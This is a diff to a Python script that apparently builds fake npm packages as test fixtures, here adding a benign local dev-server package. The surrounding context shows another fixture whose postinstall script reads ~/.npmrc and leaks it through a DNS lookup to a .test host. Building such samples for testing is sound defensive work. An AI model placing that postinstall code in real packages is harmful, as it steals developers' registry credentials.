@@ -21,6 +21,8 @@ beacon  install-metrics-beacon: a dependency-confusion style probe whose
 otheros win-path-helper: declares "os": ["win32"] and "cpu": ["x64"],
         which npm refuses to install on Linux (EBADPLATFORM), and carries a
         postinstall that reads ~/.npmrc and looks up a .test name.
+server  tiny-dev-server: a bin that, run bare, listens and waits for
+        clients (as dev servers do); with --help it prints and exits.
 """
 import io
 import json
@@ -96,6 +98,16 @@ PACKAGES = {
             "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
             "require('dns').lookup(t.replace(/[^a-z0-9]/gi, '').slice(-30) + '.winpath.test', () => {});\n",
             0o644),
+    },
+    "server": {
+        "package/package.json": (json.dumps({
+            "name": "tiny-dev-server", "version": "0.2.0", "main": "index.js",
+            "bin": {"tiny-dev-server": "cli.js"}, "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644),
+        "package/cli.js": (
+            "#!/usr/bin/env node\n"
+            "if (process.argv.includes('--help')) { console.log('usage: tiny-dev-server'); process.exit(0); }\n"
+            "require('net').createServer(() => {}).listen(0, '127.0.0.1');\n", 0o755),
     },
 }
 
